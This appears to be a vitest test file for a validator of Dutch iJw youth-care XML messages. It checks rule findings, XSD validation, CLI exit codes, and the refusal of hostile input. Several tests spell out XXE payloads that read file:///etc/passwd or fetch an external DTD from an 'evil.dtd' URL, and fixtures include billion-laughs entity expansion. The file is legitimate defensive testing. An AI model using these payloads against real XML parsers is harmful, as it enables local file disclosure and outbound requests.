/**
 * validateMessage / validateModel, hostile input (never a crash, never a hang, never an expanded
 * or fetched entity), and the `validate` command's output and exit codes.
 */
import { describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { spawn } from 'node:child_process';
import { validateMessage, validateModel } from './validate.ts';
import * as fx from './rules/fixtures.ts';
import { messages } from './messages/registry.ts';
import { loadOfficialXsd } from './xsd/official-xsd.ts';
import { IjwError } from './errors.ts';

const ROOT = resolve(import.meta.dirname, '..');
const XSD_DIR = resolve(ROOT, '../shared/reference/xsd');
const FIXTURES = resolve(ROOT, 'test/fixtures/messages');
const fixture = (name: string) => readFileSync(join(FIXTURES, name), 'utf8');

describe('validateMessage', () => {
  it('a correct message: valid, with its code and model', async () => {
    const r = await validateMessage(messages.JW323.build(fx.jw323()), { today: '2025-03-10' });
    expect(r).toMatchObject({ code: 'JW323', valid: true, findings: [] });
    expect(r.model).toEqual(fx.jw323());
  });

  it('accepts bytes as well as text', async () => {
    expect((await validateMessage(new TextEncoder().encode(messages.JW305.build(fx.jw305())))).valid).toBe(true);
  });

  it('in-message rule findings carry message, path, rule, level and retourcode', async () => {
    const r = await validateMessage(fixture('jw305-invalid-bsn-and-date.xml'));
    expect(r.valid).toBe(false);
    expect(r.findings.map(({ message, path, rule, level, retourcode }) => ({ message, path, rule, level, retourcode }))).toEqual([
      { message: 'JW305', path: '/Bericht/Client/Bsn', rule: 'CS002', level: 2, retourcode: '0001' },
      { message: 'JW305', path: '/Bericht/Client/StartProducten/StartProduct[1]/Begindatum', rule: 'TR134', level: 2, retourcode: '0001' },
    ]);
  });

  it('runs the in-message rules only on a structurally valid message', async () => {
    // Both an XSD error (Geslacht 7) and a broken BSN: only the XSD finding counts (no retour).
    const xml = fixture('jw305-invalid-xsd.xml').replace(`<jw305:Bsn>${fx.BSN}</jw305:Bsn>`, '<jw305:Bsn>123456789</jw305:Bsn>');
    const r = await validateMessage(xml);
    expect(r.findings.map((f) => [f.rule, f.path, f.retourcode])).toEqual([['XSD', '/Bericht/Client/Geslacht', undefined]]);
  });

  it('TR135 only with a system date', async () => {
    const xml = messages.JW319.build(fx.jw319());
    expect((await validateMessage(xml)).valid).toBe(true);
    expect((await validateMessage(xml, { today: '2025-03-09' })).findings).toMatchObject([{ rule: 'TR135', level: 4, retourcode: '8848', path: '/Bericht/Header/BerichtIdentificatie/Dagtekening' }]);
  });

  it('adds the official XSD findings when a copy is given', { timeout: 60_000 }, async () => {
    const xsd = loadOfficialXsd(XSD_DIR);
    expect((await validateMessage(fixture('jw323-valid.xml'), { xsd })).valid).toBe(true);
    const r = await validateMessage(fixture('jw305-invalid-xsd.xml'), { xsd });
    expect(r.findings.filter((f) => f.text.startsWith('official XSD')).length).toBeGreaterThan(0);
    expect(r.findings.find((f) => f.text.startsWith('official XSD'))?.text).toMatch(/Geslacht/);
  });
});

describe('validateModel', () => {
  it('judges a model in-process, without XML', () => {
    const m = fx.jw307();
    m.Client.StopProducten.StopProduct[0]!.Einddatum = '2025-01-01';
    expect(validateModel('JW307', m).map((f) => f.rule)).toEqual(['TR018']);
    expect(validateModel('JW307', fx.jw307(), { today: '2025-03-10' })).toEqual([]);
  });
  it('refuses a missing model with a typed error', () => {
    expect(() => validateModel('JW305', undefined)).toThrow(IjwError);
  });
});

describe('hostile or broken input gives one clear XML finding, never a crash or hang', () => {
  const xmlFinding = async (input: string | Uint8Array, code: RegExp, opts = {}) => {
    const t0 = Date.now();
    const r = await validateMessage(input, opts);
    expect(Date.now() - t0).toBeLessThan(5_000);
    expect(r.valid).toBe(false);
    expect(r.code).toBeUndefined();
    expect(r.findings).toHaveLength(1);
    expect(r.findings[0]).toMatchObject({ rule: 'XML', level: 1, path: '/' });
    expect(r.findings[0]!.text).toMatch(code);
    return r.findings[0]!.text;
  };

  it('malformed XML', { timeout: 10_000 }, async () => {
    await xmlFinding(fixture('malformed.xml'), /^XML_NOT_WELL_FORMED: .*line 2/);
    await xmlFinding('', /XML_NOT_WELL_FORMED/);
    await xmlFinding('not xml at all', /XML_NOT_WELL_FORMED/);
  });

  it('an entity-expansion attack (billion laughs) is refused, not expanded', { timeout: 10_000 }, async () => {
    const text = await xmlFinding(fixture('billion-laughs.xml'), /^XML_DTD_REFUSED/);
    expect(text).not.toMatch(/lollol/);
  });

  it('an external entity to file:///etc/passwd is refused, never read', { timeout: 10_000 }, async () => {
    const text = await xmlFinding(fixture('xxe-file.xml'), /^XML_DTD_REFUSED/);
    expect(text).not.toMatch(/root:/);
  });

  it('an external entity over http is refused, never fetched', { timeout: 10_000 }, async () => {
    // 192.0.2.1 (TEST-NET-1) never answers: a fetch would hang until the timeout.
    await xmlFinding('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://192.0.2.1/evil.dtd">]><x>&e;</x>', /^XML_DTD_REFUSED/);
    await xmlFinding('<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd"><x/>', /^XML_DTD_REFUSED/);
  });

  it('an undeclared entity reference in text', { timeout: 10_000 }, async () => {
    const xml = messages.JW305.build(fx.jw305()).replace('<jw305:Afzender>12345678</jw305:Afzender>', '<jw305:Afzender>&evil;</jw305:Afzender>');
    await xmlFinding(xml, /^XML_ENTITY_REFUSED: Entity reference &evil; refused/);
  });

  it('a wrong namespace names what was found and what is expected', { timeout: 10_000 }, async () => {
    const xml = messages.JW305.build(fx.jw305()).replaceAll('http://www.istandaarden.nl/ijw/3_2/jw305/schema', 'http://www.istandaarden.nl/iwmo/3_2/wmo305/schema');
    await xmlFinding(xml, /^UNKNOWN_MESSAGE: .*iwmo\/3_2\/wmo305.*expected http:\/\/www\.istandaarden\.nl\/ijw\/3_2\/jwNNN\/schema/);
    await xmlFinding('<Bericht/>', /^UNKNOWN_MESSAGE/);
  });

  it('an oversized document is refused before it is parsed', { timeout: 10_000 }, async () => {
    const xml = messages.JW305.build(fx.jw305());
    await xmlFinding(xml, /^XML_TOO_LARGE/, { limits: { maxBytes: 1024, maxDepth: 64 } });
  });

  it('a document nested too deep', { timeout: 10_000 }, async () => {
    // Inside an iJw document element: a foreign root is refused at its first tag already.
    const open = '<jw305:Bericht xmlns:jw305="http://www.istandaarden.nl/ijw/3_2/jw305/schema">';
    for (const n of [1_000, 10_000]) {
      await xmlFinding(`${open}${'<a>'.repeat(n)}${'</a>'.repeat(n)}</jw305:Bericht>`, /^XML_TOO_DEEP/);
      await xmlFinding(`${'<a>'.repeat(n)}${'</a>'.repeat(n)}`, /^(XML_TOO_DEEP|UNKNOWN_MESSAGE)/);
    }
  });
});

/** Runs the command as a user does, bounded in time. */
function runValidate(args: string[], env: Record<string, string> = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((done, fail) => {
    // What `npm run validate` runs: the pinned Node, its own type stripping, the compile cache.
    const child = spawn(resolve(ROOT, 'node_modules/.bin/node'), ['--import', './cli/compile-cache.mjs', resolve(ROOT, 'cli/validate.ts'), ...args], { cwd: ROOT, env: { ...process.env, IJW_XSD_DIR: '', ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.on('error', fail);
    child.on('close', (code) => {
      clearTimeout(timer);
      done({ code, stdout, stderr });
    });
  });
}

describe('npm run validate (node cli/validate.ts)', { timeout: 90_000 }, () => {
  const f = (n: string) => `test/fixtures/messages/${n}`;

  it('exit 0 and OK per file when every file is valid', async () => {
    const r = await runValidate([f('jw305-valid.xml'), f('jw323-valid.xml')]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^OK +test\/fixtures\/messages\/jw305-valid\.xml \(JW305\)$/m);
    expect(r.stdout).toMatch(/^OK +test\/fixtures\/messages\/jw323-valid\.xml \(JW323\)$/m);
    expect(r.stdout).toMatch(/2 valid, 0 invalid/);
  });

  it('exit 1 when any file is not, the findings grouped under their file', async () => {
    const r = await runValidate([f('jw305-valid.xml'), f('jw323-invalid-total.xml'), f('billion-laughs.xml')]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/INVALID test\/fixtures\/messages\/jw323-invalid-total\.xml \(JW323\): 1 finding\n {2}JW323 \/Bericht\/Declaratie\/TotaalIngediendBedrag: \[TR358 retourcode 0001\]/);
    expect(r.stdout).toMatch(/INVALID test\/fixtures\/messages\/billion-laughs\.xml: 1 finding\n {2}.*XML_DTD_REFUSED/);
    expect(r.stdout).toMatch(/1 valid, 2 invalid/);
  });

  it('--json prints an array of { file, code, valid, findings }', async () => {
    const r = await runValidate([f('jw305-invalid-bsn-and-date.xml'), f('jw305-valid.xml'), '--json']);
    expect(r.code).toBe(1);
    const out = JSON.parse(r.stdout);
    expect(out).toHaveLength(2);
    expect(out[0]).toMatchObject({ file: f('jw305-invalid-bsn-and-date.xml'), code: 'JW305', valid: false });
    expect(out[0].findings[0]).toMatchObject({ message: 'JW305', path: '/Bericht/Client/Bsn', rule: 'CS002', level: 2, retourcode: '0001' });
    expect(out[1]).toMatchObject({ valid: true, findings: [] });
  });

  it('--today enables TR135; an impossible date is a usage error', async () => {
    const late = await runValidate([f('jw305-valid.xml'), '--today', '2025-03-01']);
    expect([late.code, late.stdout]).toEqual([1, expect.stringMatching(/TR135 retourcode 8848/)]);
    const bad = await runValidate([f('jw305-valid.xml'), '--today', '2025-02-30']);
    expect([bad.code, bad.stderr]).toEqual([2, expect.stringMatching(/--today must be an existing date/)]);
  });

  it('exit 2 on usage errors: no files, an unreadable path, an unknown option, a bad XSD folder', async () => {
    const none = await runValidate([]);
    expect([none.code, none.stderr]).toEqual([2, expect.stringMatching(/missing required argument/)]);
    const missing = await runValidate([f('jw305-valid.xml'), 'no-such-file.xml']);
    expect([missing.code, missing.stderr]).toEqual([2, expect.stringMatching(/cannot read no-such-file\.xml \(ENOENT\)/)]);
    const dir = await runValidate(['test/fixtures']);
    expect([dir.code, dir.stderr]).toEqual([2, expect.stringMatching(/cannot read test\/fixtures/)]);
    const opt = await runValidate([f('jw305-valid.xml'), '--frobnicate']);
    expect([opt.code, opt.stderr]).toEqual([2, expect.stringMatching(/unknown option '--frobnicate'/)]);
    const xsd = await runValidate([f('jw305-valid.xml'), '--xsd', mkdtempSync(join(tmpdir(), 'no-xsd-'))]);
    expect([xsd.code, xsd.stderr]).toEqual([2, expect.stringMatching(/has no basisschema\.xsd/)]);
  });

  it('--xsd DIR or IJW_XSD_DIR also runs the official XSDs', async () => {
    const viaOption = await runValidate([f('jw305-invalid-xsd.xml'), '--xsd', XSD_DIR]);
    expect([viaOption.code, viaOption.stdout]).toEqual([1, expect.stringMatching(/official XSD: .*Geslacht/)]);
    const viaEnv = await runValidate([f('jw323-valid.xml')], { IJW_XSD_DIR: XSD_DIR });
    expect([viaEnv.code, viaEnv.stdout]).toEqual([0, expect.stringMatching(/official XSDs: /)]);
  });

  it('a file written by a user with a DTD: refused, exit 1, nothing leaked', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ijw-val-'));
    const p = join(dir, 'xxe.xml');
    writeFileSync(p, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>');
    const r = await runValidate([p]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/XML_DTD_REFUSED/);
    expect(r.stdout).not.toMatch(/root:/);
  });
});
